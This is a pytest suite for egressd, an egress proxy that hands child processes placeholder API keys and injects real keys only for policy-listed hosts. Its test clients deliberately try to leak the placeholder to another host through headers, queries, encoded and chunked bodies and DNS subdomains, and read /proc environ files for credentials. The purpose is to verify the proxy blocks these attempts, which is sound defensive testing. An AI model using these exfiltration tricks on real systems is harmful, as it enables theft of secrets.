"""Secrets stay with egressd: real clients (requests, curl, node) through the real `egressd` command to
local HTTPS servers that check the key.

Why: the child gets `API_KEY=egressd-secret-api-<random>`, never the key; egressd puts the key in the
request to the one host the policy names and refuses (`secret_exfiltration`) the placeholder anywhere
else egressd sees — header, query, body, a body split across chunks. The servers record everything
they received, so the tests prove where the key and the placeholder arrived; every output egressd
wrote (stderr with --trace, the audit, the control API's event stream and policy) is searched for
the key.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trustme

from egressd.child.env import CA_BUNDLE_VARS
from tests.support.audit_log import audit_records
from tests.support.control import ps_rows, wait_for
from tests.support.dns_server import DnsServer
from tests.support.egressd_cli import EGRESSD, EgressdRun, egressd_exec, write_policy
from tests.support.https_app import AppHTTPSServer, Reply, Request
from tests.support.upstreams import EchoHTTPServer

API_ADDR = "198.51.100.44"
OTHER_ADDR = "198.51.100.45"
KEY = "sk-test-REAL-8c1f0e3a9b7d4e2f"
KEY2 = "sk-test-ROTATED-51d2a7c9e0f3"
QUERY_KEY = "q/key+with&odd=chars"
QUERY_SECRET = """\
  - name: qk
    from: {env: REAL_QUERY_KEY}
    hosts: [api.test]
    query: key
    env: QK
"""
NODE_CLIENT = Path(__file__).parents[1] / "support" / "node_secret_client.js"


class KeyedApi(AppHTTPSServer):
    """An API that answers 200 only with `Authorization: Bearer <the real key>`."""

    def __init__(self, *args: Any, key: str, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.key = key

    def handle(self, request: Request) -> Reply:
        sent = request.headers.get("authorization", "")
        if sent != f"Bearer {self.key}":
            return Reply(401, b"wrong key\n")
        if request.path.startswith("/query"):
            wanted = "key=" + urllib.parse.quote(QUERY_KEY, safe="")
            return Reply(200 if wanted in request.path else 403, b"query checked\n")
        if request.path.startswith("/echo"):  # an API that quotes the credential back
            return Reply(
                200,
                f"you sent {sent} (encoding {request.headers.get('accept-encoding')})".encode(),
                {"X-Echo": sent},
            )
        return Reply(200, b"key accepted\n")


class Recorder(AppHTTPSServer):
    """Another allowed host: answers 200 to anything and keeps what it got."""

    def handle(self, request: Request) -> Reply:
        return Reply(200, b"recorded\n")

    def everything(self) -> bytes:
        with self.lock:
            return b"\n".join(
                r.path.encode() + json.dumps(r.headers).encode() + r.body for r in self.requests
            )


@pytest.fixture
def api(ca: trustme.CA, dns: DnsServer) -> Iterator[KeyedApi]:
    dns.add("api.test", API_ADDR)
    with KeyedApi(API_ADDR, ca=ca, hostnames=["api.test"], name="api", key=KEY) as server:
        yield server


@pytest.fixture
def other(ca: trustme.CA, dns: DnsServer) -> Iterator[Recorder]:
    dns.add("other.test", OTHER_ADDR)
    with Recorder(OTHER_ADDR, ca=ca, hostnames=["other.test"], name="other") as server:
        yield server


def policy_text(key_file: Path) -> str:
    return f"""\
version: 1
mode: enforce
allow:
  - 198.51.100.0/24
  - api.test
  - other.test
inspect: [other.test]
secrets:
  - name: api
    from: {{file: {key_file}}}
    hosts: [api.test]
    header: "Authorization: Bearer {{}}"
    env: API_KEY
"""


def child_env(home: Path, extra: dict[str, str] | None = None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in CA_BUNDLE_VARS and k != "SSL_CERT_DIR"}
    env["EGRESSD_HOME"] = str(home)
    env.update(extra or {})
    return env


def proxy_options(policy: Path, dns: DnsServer, ca_file: Path) -> list[str]:
    return ["--policy", str(policy), "--nameserver", dns.nameserver, "--upstream-ca", str(ca_file)]


def exec_options(policy: Path, dns: DnsServer, ca_file: Path, audit: Path) -> list[str]:
    return [*proxy_options(policy, dns, ca_file), "--audit", str(audit), "--trace"]


def refused(records: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [r for r in records if r.get("reason") == "secret_exfiltration"]


def show(proc: subprocess.CompletedProcess[bytes]) -> str:
    out, err = proc.stdout.decode()[-3000:], proc.stderr.decode()[-4000:]
    return f"exit {proc.returncode}\nstdout:\n{out}\nstderr:\n{err}"


REQUESTS_CLIENT = r"""
import base64, json, os, sys, urllib.parse
import requests
api, other = sys.argv[1], sys.argv[2]
ph = os.environ["API_KEY"]
token = ph.rsplit("-", 1)[1]
out = {"placeholder": ph}
with open("/proc/self/environ", "rb") as f:
    out["proc_environ"] = f.read().decode("latin-1")
try:
    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
        out["parent_environ"] = f.read().decode("latin-1")
except OSError as exc:
    out["parent_environ"] = f"unreadable: {exc.errno}"
out["environ"] = dict(os.environ)

def call(name, method, url, **kw):
    try:
        r = requests.request(method, url, timeout=30, **kw)
        reason = r.headers.get("X-Egressd-Reason")
        echo = r.headers.get("X-Echo")
        out[name] = {"status": r.status_code, "reason": reason, "body": r.text[:300], "echo": echo}
    except requests.exceptions.RequestException as exc:
        out[name] = {"error": type(exc).__name__}

def pieces():
    yield b"start-of-body " + ph[:20].encode()
    yield ph[20:].encode() + b" end"

call("api", "GET", api + "/v1/models", headers={"Authorization": f"Bearer {ph}"})
call("api_no_key", "GET", api + "/v1/models")
call("echo", "GET", api + "/echo", headers={"Authorization": f"Bearer {ph}"})
bearer = {"Authorization": f"Bearer {ph}"}
call("query_key", "GET", api + "/query?a=1&key=" + os.environ["QK"], headers=bearer)
call("header", "GET", other + "/h", headers={"X-Anything": ph})
call("header_upper", "GET", other + "/h", headers={"X-Anything": token.upper()})
call("query", "GET", other + "/q?k=" + ph)
call("query_pct", "GET", other + "/q?k=" + "".join("%%%02X" % ord(c) for c in token))
call("auth_other", "GET", other + "/a", headers={"Authorization": f"Bearer {ph}"})
call("body", "POST", other + "/b", data=b"key=" + ph.encode())
call("body_chunked", "POST", other + "/c", data=pieces())
call("body_b64", "POST", other + "/d", data=b"x" + base64.b64encode(b"Bearer " + ph.encode()))
call("body_multipart", "POST", other + "/m", files={"f": ("k.txt", b"the key: " + ph.encode())})
call("clean", "POST", other + "/clean", data=b"nothing to see")
print(json.dumps(out))
"""


def test_requests_gets_the_key_only_where_it_may_go(
    tmp_path: Path, dns: DnsServer, ca_file: Path, api: KeyedApi, other: Recorder
) -> None:
    key_file = tmp_path / "key"
    key_file.write_text(KEY + "\n")
    policy = write_policy(tmp_path, policy_text(key_file) + QUERY_SECRET)
    audit = tmp_path / "audit.jsonl"
    proc = egressd_exec(
        exec_options(policy, dns, ca_file, audit),
        [sys.executable, "-c", REQUESTS_CLIENT, api.base_url, other.base_url],
        env=child_env(tmp_path / "home", {"REAL_QUERY_KEY": QUERY_KEY}),
        timeout=120,
    )
    assert proc.returncode == 0, show(proc)
    out = json.loads(proc.stdout)
    placeholder = out["placeholder"]
    assert (
        placeholder.startswith("egressd-secret-api-") and len(placeholder) == len("egressd-secret-api-") + 32
    )
    token = placeholder.rsplit("-", 1)[1]
    # the child: only the placeholder, in its environment and in /proc/self/environ; egressd's own
    # environ holds no key either
    assert out["environ"]["API_KEY"] == placeholder
    assert KEY not in out["proc_environ"] and placeholder in out["proc_environ"]
    assert KEY not in json.dumps(out["environ"]) and KEY not in out["parent_environ"]
    # the listed host got the key and answered 200; without the header nothing is injected
    assert out["api"]["status"] == 200, out
    assert out["api_no_key"]["status"] == 401, out
    assert [r.headers.get("authorization") for r in api.requests] == [f"Bearer {KEY}", None] + [
        f"Bearer {KEY}"
    ] * 2
    # the query secret (from egressd's environment): swapped into ?key=, its source never the child's
    assert out["query_key"]["status"] == 200, out
    assert out["environ"]["QK"].startswith("egressd-secret-qk-") and "REAL_QUERY_KEY" not in out["environ"]
    assert QUERY_KEY not in out["proc_environ"] and QUERY_KEY not in out["parent_environ"]
    # an upstream that echoes the key: the child gets it masked, same length, in body and header
    masked = "Bearer " + "*" * len(KEY)
    assert out["echo"]["body"] == f"you sent {masked} (encoding identity)", out["echo"]
    assert out["echo"]["echo"] == masked, out["echo"]
    # everywhere else: refused, and the placeholder never reached the other host
    for case in ("header", "header_upper", "query", "query_pct", "auth_other"):
        assert out[case]["status"] == 403 and out[case]["reason"] == "secret_exfiltration", (case, out)
    # a body with a Content-Length is read whole and refused before anything goes upstream; a
    # chunked one streams and is cut before the placeholder (the client sees the connection end)
    for case in ("body", "body_b64", "body_multipart"):
        assert out[case]["status"] == 403 and out[case]["reason"] == "secret_exfiltration", (case, out)
    assert out["body_chunked"] == {"error": "ProxyError"}, out
    assert out["clean"]["status"] == 200, out
    assert "/clean" in other.paths and set(other.paths) <= {"/c", "/clean"}, other.paths  # /c: cut short
    seen = other.everything()
    assert token.encode() not in seen.lower() and KEY.encode() not in seen
    assert b"nothing to see" in seen
    records = audit_records(audit)
    paths = {r.get("path") for r in refused(records)}
    assert {"/h", "/a", "/b", "/c", "/d", "/m"} <= paths, records
    assert any(p and p.startswith("/q") for p in paths), records
    assert all(r["decision"] == "deny" and "'api'" in r["detail"] for r in refused(records))
    # the value nowhere in what egressd wrote; the placeholder's random part not in the audit
    audit_text = audit.read_text()
    for text in (audit_text, proc.stderr.decode()):
        assert KEY not in text and urllib.parse.quote(QUERY_KEY, safe="") not in text
    assert token not in audit_text.lower()


def test_redirect_to_another_host_drops_the_injected_header(
    tmp_path: Path, dns: DnsServer, ca_file: Path, ca: trustme.CA, other: Recorder
) -> None:
    """api.test redirects to other.test: requests resends `X-Api-Key` (it drops only Authorization);
    egressd drops the secret's header from the follow-up, which then succeeds without it."""

    class Redirecting(AppHTTPSServer):
        def handle(self, request: Request) -> Reply:
            if request.headers.get("x-api-key") != KEY:
                return Reply(401, b"wrong key\n")
            return Reply(302, b"", {"Location": f"{other.base_url}/landed"})

    dns.add("api.test", API_ADDR)
    key_file = tmp_path / "key"
    key_file.write_text(KEY)
    text = policy_text(key_file).replace('"Authorization: Bearer {}"', '"x-api-key: {}"')
    policy = write_policy(tmp_path, text)
    audit = tmp_path / "audit.jsonl"
    script = (
        "import os, sys, requests\n"
        "r = requests.get(sys.argv[1] + '/go', headers={'X-Api-Key': os.environ['API_KEY']}, timeout=30)\n"
        "print(r.status_code, r.url)\n"
    )
    with Redirecting(API_ADDR, ca=ca, hostnames=["api.test"], name="redirecting") as api:
        proc = egressd_exec(
            exec_options(policy, dns, ca_file, audit),
            [sys.executable, "-c", script, api.base_url],
            env=child_env(tmp_path / "home"),
            timeout=120,
        )
        assert proc.returncode == 0, show(proc)
        assert proc.stdout.split()[0] == b"200" and b"/landed" in proc.stdout, show(proc)
        assert api.requests[0].headers["x-api-key"] == KEY
    [landed] = other.requests
    assert "x-api-key" not in landed.headers, landed.headers
    stripped = [r for r in audit_records(audit) if r.get("event") == "credentials_stripped"]
    assert stripped and stripped[0]["stripped"] == ["x-api-key"], audit_records(audit)


def test_curl_and_node_through_the_command_line_secret(
    tmp_path: Path, dns: DnsServer, ca_file: Path, api: KeyedApi, other: Recorder
) -> None:
    """`exec --secret api=API_KEY --secret-host api=api.test`: the value from egressd's own API_KEY,
    the child's API_KEY the placeholder; curl and node send it to api.test (200) and to other.test
    (refused)."""
    audit = tmp_path / "audit.jsonl"
    policy = write_policy(
        tmp_path, "version: 1\nallow: [198.51.100.0/24, api.test, other.test]\ninspect: [other.test]\n"
    )
    options = [
        *exec_options(policy, dns, ca_file, audit),
        "--secret",
        "api=API_KEY",
        "--secret-host",
        "api=api.test",
    ]
    script = (
        'curl -sS -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $API_KEY" "$1/curl"; '
        'curl -sS -o /dev/null -w "%{http_code}\\n" -H "X-Key: $API_KEY" "$2/curl"; '
        'node "$3" "$1/node" "$2/node"; '
        'printf "%s\\n" "$API_KEY"; '
        # egressd's own /proc environ (readable here: the tests run as root) has the value wiped;
        # the child's parent is the launcher of its network namespace, egressd's child
        "egressd=$(awk '/^PPid:/ {print $2}' /proc/$PPID/status); "
        "tr '\\0' '\\n' < /proc/$egressd/environ | grep '^API_KEY='; "
        "tr '\\0' '\\n' < /proc/$$/environ | grep '^API_KEY='; "
        # the same through SOCKS5 (its tunnels to a secret's host are inspected too)
        'curl -sS -o /dev/null -w "%{http_code}\\n" -x "$EGRESSD_SOCKS_PROXY" '
        '-H "Authorization: Bearer $API_KEY" "$1/socks"; '
        'curl -sS -o /dev/null -w "%{http_code}\\n" -x "$EGRESSD_SOCKS_PROXY" '
        '-H "X-Key: $API_KEY" "$2/socks"; '
        # in the host name (other.test's rule matches its subdomains): refused before any lookup
        'curl -sS -o /dev/null -w "%{http_connect}\\n" "https://$API_KEY.other.test:$4/dns" 2>/dev/null; true'
    )
    proc = egressd_exec(
        options,
        ["sh", "-c", script, "sh", api.base_url, other.base_url, str(NODE_CLIENT), str(other.port)],
        env=child_env(tmp_path / "home", {"API_KEY": KEY}),
        timeout=120,
    )
    assert proc.returncode == 0, show(proc)
    lines = proc.stdout.decode().splitlines()
    assert lines[0] == "200" and lines[1] == "403", show(proc)
    node = json.loads(lines[2])
    assert node[0]["status"] == 200 and node[1]["status"] == 403, node
    assert node[1]["reason"] == "secret_exfiltration", node
    assert lines[3].startswith("egressd-secret-api-") and KEY not in proc.stdout.decode()
    assert lines[4] == "API_KEY=" + "x" * len(KEY), show(proc)  # egressd's original environment
    assert lines[5] == f"API_KEY={lines[3]}", show(proc)  # the child's: the placeholder
    assert lines[6:] == ["200", "403", "403"], show(proc)
    assert dns.count(f"{lines[3]}.other.test") == 0
    assert [r.headers.get("authorization") for r in api.requests] == [f"Bearer {KEY}"] * 3
    assert other.requests == []
    assert len(refused(audit_records(audit))) == 4
    assert lines[3].rsplit("-", 1)[1] not in audit.read_text()
    assert KEY not in audit.read_text() and KEY not in proc.stderr.decode()


def test_a_secret_host_must_be_allowed(tmp_path: Path, dns: DnsServer) -> None:
    policy = write_policy(tmp_path, "version: 1\nallow: [api.test]\n")
    proc = egressd_exec(
        ["--policy", str(policy), "--secret", "api=API_KEY", "--secret-host", "api=elsewhere.test"],
        ["true"],
        env=child_env(tmp_path / "home", {"API_KEY": KEY}),
    )
    assert proc.returncode == 2
    assert b"elsewhere.test" in proc.stderr and b"not allowed by this policy" in proc.stderr
    assert KEY.encode() not in proc.stderr
    missing = egressd_exec(
        ["--policy", str(policy), "--secret", "api=NOT_SET_ANYWHERE", "--secret-host", "api=api.test"],
        ["true"],
        env=child_env(tmp_path / "home"),
    )
    assert missing.returncode == 2 and b"NOT_SET_ANYWHERE is not set" in missing.stderr, missing.stderr


def test_reload_applies_a_new_value_and_the_control_api_never_shows_it(
    tmp_path: Path, dns: DnsServer, ca_file: Path, api: KeyedApi, egressd_home: Path
) -> None:
    """`egressd run`: the key file changes and the policy is touched: the next request carries the
    new key. The control API's event stream (what `egressd watch` and the dashboard read) and its
    policy view name the secret's source, never its value."""
    from egressd.control.client import ControlClient, find_instances

    key_file = tmp_path / "key"
    key_file.write_text(KEY)
    policy = write_policy(tmp_path, policy_text(key_file))
    run = EgressdRun([*proxy_options(policy, dns, ca_file), "--no-prompt"])
    with run:
        watch = subprocess.Popen([*EGRESSD, "watch", "--json"], stdout=subprocess.PIPE, text=True)
        lines: list[str] = []
        reader = threading.Thread(target=lambda: [lines.append(x) for x in watch.stdout or []], daemon=True)
        reader.start()
        try:
            env = {**run.child_env(), "EGRESSD_HOME": str(egressd_home)}
            assert env["API_KEY"].startswith("egressd-secret-api-")

            def curl() -> str:
                done = subprocess.run(
                    [
                        "curl",
                        "-sS",
                        "-o",
                        "/dev/null",
                        "-w",
                        "%{http_code}",
                        "-H",
                        f"Authorization: Bearer {env['API_KEY']}",
                        f"{api.base_url}/r",
                    ],
                    env=env,
                    capture_output=True,
                    text=True,
                    timeout=60,
                )
                return done.stdout

            assert curl() == "200"
            api.key = KEY2
            key_file.write_text(KEY2)
            policy.write_text(policy.read_text() + "# touched\n")
            wait_for(lambda: curl() == "200", what="the reloaded key")
            assert api.requests[-1].headers["authorization"] == f"Bearer {KEY2}"
            wait_for(lambda: any('"decision"' in line for line in lines), what="events on the watch stream")
            [found] = find_instances()[1]
            view = json.dumps(ControlClient(found.path).call("GET", "/v1/policy"))
            assert '"api"' in view and str(key_file) in view
            info = json.dumps(ps_rows())
        finally:
            watch.terminate()
            watch.wait(10)
    everything = "".join(lines) + view + info + run.stderr
    assert KEY not in everything and KEY2 not in everything


def test_plain_http_goes_through_the_same_step(tmp_path: Path, dns: DnsServer, ca_file: Path) -> None:
    """Absolute-form HTTP (no TLS): the value swapped in for the listed host (and masked in the echo
    the server sends back), the placeholder refused to another host in a header and in a chunked
    body split across writes."""
    with EchoHTTPServer("198.51.100.46") as listed, EchoHTTPServer("198.51.100.47") as leak:
        dns.add("plain.test", "198.51.100.46")
        dns.add("leak.test", "198.51.100.47")
        key_file = tmp_path / "key"
        key_file.write_text(KEY)
        text = policy_text(key_file).replace("hosts: [api.test]", "hosts: [plain.test]")
        text = text.replace("  - other.test\n", "  - plain.test\n  - leak.test\n")
        policy = write_policy(tmp_path, text)
        audit = tmp_path / "audit.jsonl"
        script = (
            "import json, os, sys, requests\n"
            "ph = os.environ['API_KEY']\n"
            "def pieces():\n"
            "    yield ph[:10].encode()\n"
            "    yield ph[10:].encode()\n"
            "out = {}\n"
            "r = requests.get(sys.argv[1] + '/echo', headers={'Authorization': 'Bearer ' + ph}, timeout=30)\n"
            "out['listed'] = [r.status_code, r.json()['headers'].get('authorization')]\n"
            "r = requests.get(sys.argv[2] + '/h', headers={'X-K': ph}, timeout=30)\n"
            "out['header'] = [r.status_code, r.headers.get('X-Egressd-Reason')]\n"
            "try:\n"
            "    r = requests.post(sys.argv[2] + '/b', data=pieces(), timeout=30)\n"
            "    out['body'] = [r.status_code, r.headers.get('X-Egressd-Reason')]\n"
            "except requests.exceptions.RequestException as exc:\n"
            "    out['body'] = [type(exc).__name__]\n"
            "print(json.dumps(out))\n"
        )
        proc = egressd_exec(
            exec_options(policy, dns, ca_file, audit),
            [
                sys.executable,
                "-c",
                script,
                f"http://plain.test:{listed.port}",
                f"http://leak.test:{leak.port}",
            ],
            env=child_env(tmp_path / "home"),
            timeout=120,
        )
        assert proc.returncode == 0, show(proc)
        out = json.loads(proc.stdout)
        assert out["listed"] == [200, "Bearer " + "*" * len(KEY)], out
        assert listed.requests[0]["headers"]["authorization"] == f"Bearer {KEY}"
        assert out["header"] == [403, "secret_exfiltration"], out
        assert out["body"] in ([403, "secret_exfiltration"], ["ConnectionError"]), out
        seen = json.dumps(leak.requests, default=lambda b: b.decode("latin-1"))
        assert "egressd-secret" not in seen and KEY not in seen
        assert {r["path"] for r in refused(audit_records(audit))} == {"/h", "/b"}
        assert KEY not in audit.read_text() and KEY not in proc.stderr.decode()


ONE_WRITE_CLIENT = r"""
import base64, json, os, socket, ssl, sys, urllib.parse
mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
auth = ""
if proxy.username:
    user = urllib.parse.unquote(proxy.username) + ":" + urllib.parse.unquote(proxy.password or "")
    auth = "Proxy-Authorization: Basic " + base64.b64encode(user.encode()).decode() + "\r\n"
sock = socket.create_connection((proxy.hostname, proxy.port), timeout=30)
body = b"key=" + os.environ["API_KEY"].encode()
if mode == "inspected":
    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n{auth}\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += sock.recv(1)
    assert head.startswith(b"HTTP/1.1 200"), head
    sock = ssl.create_default_context().wrap_socket(sock, server_hostname=host)
    target, auth = "/one", ""
else:
    target = f"http://{host}:{port}/one"
head = f"POST {target} HTTP/1.1\r\nHost: {host}:{port}\r\n{auth}Connection: close\r\n"
head += "Transfer-Encoding: chunked\r\n\r\n"
sock.sendall(head.encode() + f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n")
got = b""
try:
    while chunk := sock.recv(65536):
        got += chunk
except OSError:
    pass
print(json.dumps({"answer": got.decode("latin-1")}))
"""


def test_a_chunked_body_sent_whole_in_one_write_never_completes_upstream(
    tmp_path: Path, dns: DnsServer, ca_file: Path, other: Recorder
) -> None:
    """The placeholder in a chunked body whose every byte, the body's end included, arrives in one
    write, so the proxy reads it all at once: the server never gets the request's end (a request
    without the refused part would be a complete request to it), and the child gets no success.
    Inspected, the exchange ends without a response; plain, the child gets the refusal or the end."""
    with EchoHTTPServer("198.51.100.47") as leak:
        dns.add("leak.test", "198.51.100.47")
        key_file = tmp_path / "key"
        key_file.write_text(KEY)
        policy = write_policy(
            tmp_path, policy_text(key_file).replace("  - other.test\n", "  - other.test\n  - leak.test\n")
        )
        audit = tmp_path / "audit.jsonl"
        answers = {}
        for mode, host, port in (("inspected", "other.test", other.port), ("plain", "leak.test", leak.port)):
            for attempt in range(3):
                proc = egressd_exec(
                    exec_options(policy, dns, ca_file, audit),
                    [sys.executable, "-c", ONE_WRITE_CLIENT, mode, host, str(port)],
                    env=child_env(tmp_path / "home"),
                    timeout=120,
                )
                assert proc.returncode == 0, show(proc)
                answers[mode, attempt] = json.loads(proc.stdout)["answer"]
        for (mode, _), answer in answers.items():
            if mode == "inspected":
                assert answer == "", answers
            else:
                assert answer == "" or (
                    answer.startswith("HTTP/1.1 403") and "secret_exfiltration" in answer
                ), answers
        assert "/one" not in other.paths and all(r["path"] != "/one" for r in leak.requests)
        assert [r.get("path") for r in refused(audit_records(audit))] == ["/one"] * 6


def test_the_sandboxed_child_gets_the_placeholder_and_not_the_key_file(
    tmp_path: Path, dns: DnsServer, ca_file: Path, api: KeyedApi, work: Path
) -> None:
    """`egressd sandbox`: the child's variable holds the placeholder, the call succeeds with the key
    egressd read from a file the sandbox does not show the child."""
    key_file = tmp_path / "secret-key"
    key_file.write_text(KEY)
    policy = write_policy(tmp_path, policy_text(key_file))
    env = child_env(work / "home")
    env["TMPDIR"] = str(work / ".t")
    (work / ".t").mkdir()
    script = (
        'curl -sS -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $API_KEY" "$1/sandboxed"; '
        'printf "%s\\n" "$API_KEY"; cat "$2" || echo unreadable'
    )
    proc = subprocess.run(
        [*EGRESSD, "sandbox", *proxy_options(policy, dns, ca_file), "--", "sh", "-c", script, "sh"]
        + [api.base_url, str(key_file)],
        cwd=work,
        env=env,
        capture_output=True,
        timeout=120,
    )
    assert proc.returncode == 0, show(proc)
    lines = proc.stdout.decode().splitlines()
    assert lines[0] == "200" and lines[1].startswith("egressd-secret-api-"), show(proc)
    assert lines[-1] == "unreadable" and KEY not in proc.stdout.decode(), show(proc)
    assert api.requests[-1].headers["authorization"] == f"Bearer {KEY}"
